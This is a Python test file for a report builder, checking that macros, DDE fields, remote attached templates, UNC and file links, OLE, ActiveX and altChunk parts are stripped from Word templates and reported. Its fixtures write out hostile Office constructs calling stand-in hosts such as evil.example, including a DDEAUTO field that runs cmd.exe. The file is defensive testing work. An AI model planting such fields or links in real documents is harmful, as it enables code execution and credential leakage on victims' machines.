"""A Word template's active and outward-pointing parts never reach the published report:
each is removed, and named in a warning, before anything is built from the template."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import docx
import pytest
from conftest import run

OLE = bytes.fromhex("D0CF11E0A1B11AE1") + b"\0" * 504
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
NS = ('xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
      f'xmlns:r="{REL}" xmlns:v="urn:schemas-microsoft-com:vml" '
      'xmlns:o="urn:schemas-microsoft-com:office:office"')


def rel(rid: str, kind: str, target: str, external: bool = False) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    return (f'<Relationship Id="{rid}" Type="{REL}/{kind}" Target="{target}"{mode}/>'
            ).encode()


def add_rels(data: bytes, *rels: bytes) -> bytes:
    return data.replace(b"</Relationships>", b"".join(rels) + b"</Relationships>")


def in_header(data: bytes, xml: str) -> bytes:
    """``xml`` as a paragraph at the end of the header, the namespaces declared there."""
    data = re.sub(rb"<w:hdr\b[^>]*>", f"<w:hdr {NS}>".encode(), data, count=1)
    return data.replace(b"</w:hdr>", f"<w:p>{xml}</w:p></w:hdr>".encode())


def complex_field(instruction: str, shown: str) -> str:
    return ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            f'<w:r><w:instrText xml:space="preserve"> {instruction} </w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
            f'<w:r><w:t>{shown}</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r>')


CASES = {
    "remote attached template": dict(
        rels={"word/_rels/settings.xml.rels": [
            rel("rIdT", "attachedTemplate", "http://evil.example/x.dotm", True)]},
        settings='<w:attachedTemplate r:id="rIdT"/>',
        warning="an attached template at 'http://evil.example/x.dotm'"),
    "UNC picture link": dict(
        rels={"word/_rels/header1.xml.rels": [
            rel("rIdI", "image", "\\\\evil\\share\\x.png", True)]},
        header='<w:r><w:pict><v:shape style="width:10pt;height:10pt">'
               '<v:imagedata r:id="rIdI"/></v:shape></w:pict></w:r>',
        warning="a linked picture at '\\\\\\\\evil\\\\share\\\\x.png'"),
    "INCLUDEPICTURE field": dict(
        header='<w:fldSimple w:instr=\' INCLUDEPICTURE "http://evil.example/p.png" \\d \'>'
               '<w:r><w:t>SHOWN-PICTURE</w:t></w:r></w:fldSimple>',
        warning="an INCLUDEPICTURE field (in word/header1.xml)", kept="SHOWN-PICTURE"),
    "INCLUDETEXT field": dict(
        header=complex_field('INCLUDETEXT "\\\\\\\\evil\\\\share\\\\x.docx"', "SHOWN-TEXT"),
        warning="an INCLUDETEXT field", kept="SHOWN-TEXT"),
    "DDEAUTO field": dict(
        header=complex_field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"', "DDE"),
        warning="a DDEAUTO field"),
    "DDE field": dict(header=complex_field('DDE excel "c:\\\\x.xls" "R1C1"', "D"),
                      warning="a DDE field"),
    "LINK field": dict(
        header='<w:fldSimple w:instr=\' LINK Excel.Sheet.8 "C:\\\\x.xls" "" \\a \'>'
               '<w:r><w:t>SHOWN-LINK</w:t></w:r></w:fldSimple>',
        warning="a LINK field", kept="SHOWN-LINK"),
    "field in lower case, nested": dict(
        header='<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
               '<w:r><w:instrText>IF 1 = 1 "</w:instrText></w:r>'
               + complex_field('includePicture "http://e/x"', "in")
               + '<w:r><w:instrText>"</w:instrText></w:r>'
               '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>outer</w:t></w:r>'
               '<w:r><w:fldChar w:fldCharType="end"/></w:r>',
        warning="an INCLUDEPICTURE field"),
    "VBA declared as octet-stream": dict(
        parts={"word/vbaProject.bin": OLE},
        types='<Default Extension="bin" ContentType="application/octet-stream"/>',
        rels={"word/_rels/document.xml.rels": [rel("rIdV", "vbaProject", "vbaProject.bin")]},
        warning="a macro (VBA) part (word/vbaProject.bin)"),
    "VBA under another name": dict(
        parts={"word/media/image9.png": OLE},
        rels={"word/_rels/document.xml.rels": [rel("rIdV", "image", "media/image9.png")]},
        types='<Default Extension="png" ContentType="image/png"/>',
        warning="an embedded OLE object (a file holding other files or macros) "
                "(word/media/image9.png)"),
    "altChunk": dict(
        parts={"word/afchunk.mht": b"MIME-Version: 1.0\r\n\r\n<html>ALTCHUNK</html>"},
        types='<Override PartName="/word/afchunk.mht" ContentType="message/rfc822"/>',
        rels={"word/_rels/document.xml.rels": [rel("rIdA", "aFChunk", "afchunk.mht")]},
        warning="an altChunk"),
    "embedded OLE object": dict(
        parts={"word/embeddings/oleObject1.bin": OLE},
        rels={"word/_rels/header1.xml.rels": [
            rel("rIdO", "oleObject", "embeddings/oleObject1.bin")]},
        header='<w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" '
               'r:id="rIdO"/></w:object></w:r>',
        warning="an embedded OLE object"),
    "ActiveX control": dict(
        parts={"word/activeX/activeX1.xml": b'<ax:ocx xmlns:ax="http://schemas.microsoft.'
               b'com/office/2006/activeX" ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"'
               b'/>', "word/activeX/activeX1.bin": OLE},
        types='<Override PartName="/word/activeX/activeX1.xml" '
              'ContentType="application/vnd.ms-office.activeX+xml"/>',
        rels={"word/_rels/document.xml.rels": [rel("rIdX", "control",
                                                    "activeX/activeX1.xml")]},
        warning="an ActiveX control"),
    "link to a file": dict(
        rels={"word/_rels/header1.xml.rels": [
            rel("rIdH", "hyperlink", "file://evil/share/run.exe", True)]},
        header='<w:hyperlink r:id="rIdH"><w:r><w:t>SHOWN-FILE-LINK</w:t></w:r></w:hyperlink>',
        warning="a link to 'file://evil/share/run.exe'", kept="SHOWN-FILE-LINK"),
}


def template_with(path: Path, case: dict) -> Path:
    plain = path.with_name("plain.docx")
    document = docx.Document()
    document.sections[0].header.paragraphs[0].text = "Council header"
    document.add_paragraph("Body the report replaces.")
    document.save(str(plain))
    source = zipfile.ZipFile(plain)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        names = source.namelist()
        for name in [*names, *[n for n in case.get("rels", {}) if n not in names]]:
            data = source.read(name) if name in names else (
                b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships '
                b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                b'</Relationships>')
            if name in case.get("rels", {}):
                data = add_rels(data, *case["rels"][name])
            if name == "word/header1.xml" and "header" in case:
                data = in_header(data, case["header"])
            if name == "word/settings.xml" and "settings" in case:
                assert b"xmlns:r=" in data
                data = re.sub(rb"(<w:settings\b[^>]*)>", rb"\1>" + case["settings"].encode(),
                              data, count=1)
            if name == "[Content_Types].xml" and "types" in case:
                data = data.replace(b"</Types>", case["types"].encode() + b"</Types>")
            out.writestr(name, data)
        for name, data in case.get("parts", {}).items():
            out.writestr(name, data)
    return path


@pytest.mark.parametrize("case", CASES)
def test_an_active_part_of_a_word_template_is_removed_and_named(runner, project, tmp_path,
                                                                case):
    template = template_with(tmp_path / "council.docx", CASES[case])
    assert "header1.xml" in str(zipfile.ZipFile(template).namelist())
    result = run(runner, "build", "--project", str(project), "--format", "docx",
                 "--docx-template", str(template))
    assert result.exit_code == 0, result.output
    assert (f"{template}: removed from the template, so not in the report: "
            f"{CASES[case]['warning']}") in result.stderr, result.stderr
    published = zipfile.ZipFile(project / "out/progress-report.docx")
    names = published.namelist()
    assert not [n for n in names if re.search(r"(?i)vba|activex|embeddings|afchunk", n)]
    assert not [n for n in names if published.read(n).startswith(OLE[:8])]
    everything = b"".join(published.read(n) for n in names if n.endswith((".xml", ".rels")))
    for word in (b"INCLUDEPICTURE", b"includePicture", b"INCLUDETEXT", b"DDEAUTO",
                 b"DDE excel", b"cmd.exe", b"LINK Excel", b"attachedTemplate",
                 b"altChunk", b"OLEObject", b"evil", b"ALTCHUNK"):
        assert word not in everything, word
    assert b'TargetMode="External"' not in everything
    assert b"Council header" in published.read("word/header1.xml")
    if "kept" in CASES[case]:  # the text the field or link last showed stays
        assert CASES[case]["kept"].encode() in published.read("word/header1.xml")
    docx.Document(str(project / "out/progress-report.docx"))  # still opens


def test_web_links_and_passive_fields_are_kept(runner, project, tmp_path):
    template = template_with(tmp_path / "council.docx", dict(
        rels={"word/_rels/header1.xml.rels": [
            rel("rIdW", "hyperlink", "https://council.example/safety", True)]},
        header='<w:hyperlink r:id="rIdW"><w:r><w:t>Our website</w:t></w:r></w:hyperlink>'
               '<w:fldSimple w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple>'
               + complex_field("NUMPAGES", "9")))
    result = run(runner, "build", "--project", str(project), "--format", "docx",
                 "--docx-template", str(template))
    assert result.exit_code == 0, result.output
    assert "removed from the template" not in result.stderr
    published = zipfile.ZipFile(project / "out/progress-report.docx")
    header = published.read("word/header1.xml")
    assert b"Our website" in header and b"PAGE" in header and b"NUMPAGES" in header
    assert b"https://council.example/safety" in published.read("word/_rels/header1.xml.rels")


def test_with_strict_a_template_with_an_active_part_is_refused(runner, project, tmp_path):
    template = template_with(tmp_path / "council.docx", CASES["INCLUDEPICTURE field"])
    result = run(runner, "build", "--project", str(project), "--format", "docx", "--strict",
                 "--docx-template", str(template))
    assert result.exit_code == 1
    assert "an INCLUDEPICTURE field (in word/header1.xml) (an error with --strict)" \
        in result.stderr
    assert not (project / "out/progress-report.docx").exists()
